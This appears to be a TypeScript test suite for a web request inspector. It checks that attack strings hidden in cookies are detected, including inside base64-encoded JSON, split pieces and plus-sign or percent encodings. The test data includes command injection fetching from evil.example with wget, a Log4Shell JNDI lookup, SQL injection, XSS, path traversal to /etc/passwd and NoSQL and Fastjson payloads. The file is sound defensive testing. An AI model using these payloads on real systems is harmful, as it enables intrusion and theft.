import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { visitDecodings } from '../src/canonicalise/decodings.ts'
import { type InspectedRequest, inspect } from '../src/index.ts'

const ATTACKS = [
  '$(wget http://evil.example/a -O /tmp/a)',
  "' UNION SELECT password FROM users -- ",
  '<script>alert(1)</script>',
  '../../../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  "x' OR '1'='1' -- ",
]

const cookie = (value: string): InspectedRequest => ({
  method: 'GET',
  target: '/',
  headers: ['cookie', `theme=dark; session=${value}; lang=en`],
})

/** As Laravel writes a cookie: JSON with escaped slashes in base64, encoded for a URL. */
function coded(document: string): string {
  return Buffer.from(document.replaceAll('/', '\\/')).toString('base64')
}

function isBlocked(value: string): void {
  assert.equal(inspect(cookie(value)).verdict, 'block', value)
}

/** A document whose base64 ends in so many signs of padding. */
function padded(fields: Record<string, unknown>, signs: number): string {
  for (let filler = ''; ; filler += 'x') {
    const document = JSON.stringify({ ...fields, filler })
    if ((3 - (document.replaceAll('/', '\\/').length % 3)) % 3 === signs) return document
  }
}

describe('a JSON document in base64', () => {
  test('is read once, however its padding is encoded', () => {
    for (const signs of [0, 1, 2]) {
      const document = padded(
        { iv: 'f+9BYMSDTuvPZlt8N0yWZQ==', mac: '84f33b42595faed821240cefb057c000' },
        signs,
      )
      const sent = encodeURIComponent(coded(document))
      const readings: string[] = []
      visitDecodings(sent, 'cookie', 'session', ({ text, isPiece }) => {
        if (!isPiece) readings.push(text)
        return false
      })
      const documents = readings.filter(text => text.startsWith('{'))
      assert.ok(documents.includes(document), `${signs} signs of padding`)
      assert.ok(
        documents.every(text => text.endsWith('}')),
        documents.join('\n'),
      )
    }
  })

  test('hides no attack in a value or a name, with or without padding', () => {
    for (const attack of ATTACKS)
      for (const signs of [0, 1, 2])
        for (const fields of [
          { iv: 'f+9BYMSDTuvPZlt8N0yWZQ==', value: attack },
          { value: attack, mac: 'x' },
          { a: { b: [1, attack] } },
          { value: attack.replaceAll(' ', '+') },
          { value: encodeURIComponent(attack) },
          { value: Buffer.from(attack).toString('base64') },
          { value: Buffer.from(`{"a":${JSON.stringify(attack)}}`).toString('base64') },
        ]) {
          const document = padded(fields, signs)
          isBlocked(encodeURIComponent(coded(document)))
          isBlocked(Buffer.from(document).toString('base64url'))
        }
  })

  test('hides no attack that stands before it, behind it or between two', () => {
    const document = '{"iv":"f+9BYMSDTuvPZlt8N0yWZQ==","mac":"x"}'
    for (const attack of ATTACKS)
      for (const text of [
        `${attack}${document}`,
        `${document}${attack}`,
        `${document}${attack}${document}`,
        `{${attack}}`,
        `[${attack}]`,
      ]) {
        const sent = Buffer.from(text).toString('base64')
        for (const value of [sent, encodeURIComponent(sent), `${sent}%3D`, `${sent}%3d%3D`]) isBlocked(value)
      }
  })

  test('hides no attack whose quotes or braces are encoded, and change what is a string', () => {
    for (const text of [
      '{"user":"x%22,%22$where%22:%22sleep(5000)","a":"b+c"}',
      '{"@type%22:%22com.sun.rowset.JdbcRowSetImpl","a":"b+c"}',
    ]) {
      const sent = encodeURIComponent(Buffer.from(text).toString('base64'))
      const read: string[] = []
      visitDecodings(sent, 'cookie', 'session', reading => {
        read.push(reading.text)
        return false
      })
      assert.ok(
        read.includes(text.replaceAll('%22', '"')) ||
          read.includes(text.replaceAll('%22', '"').replaceAll('+', ' ')),
      )
    }
    isBlocked(
      encodeURIComponent(
        Buffer.from('{"@type%22:%22com.sun.rowset.JdbcRowSetImpl","a":"b+c"}').toString('base64'),
      ),
    )
  })

  test('that was cut into pieces is read where the pieces stand', () => {
    for (const attack of ATTACKS) {
      const half = Buffer.from(attack).toString('base64')
      isBlocked(encodeURIComponent(JSON.stringify({ a: 'x', b: half })))
      isBlocked(encodeURIComponent(JSON.stringify({ a: 'x+y', b: `v1.${half}.AAAAAAAAAAAAAAAAAAAAAAAA` })))
    }
  })
})

describe('a cookie with plus signs', () => {
  test('hides no attack, whether they are spaces or not', () => {
    for (const attack of [
      'union select password from users where 1=1',
      "' or 1=1 or 'a'='b",
      'x; cat /etc/passwd',
    ]) {
      const plus = attack.replaceAll(' ', '+')
      for (const value of [plus, `a%3D1&${plus}`, `${plus} and more`, `AbCd12+${plus}`, `\t${plus}`])
        isBlocked(value.replaceAll(';', '%3B'))
    }
  })

  test('hides no attack in the alphabet of base64', () => {
    for (const value of ['Aa1+UNION+SELECT+password+FROM+Users', 'X9+uNiOn+all+select+NULL+from+Dual'])
      isBlocked(value)
  })
})
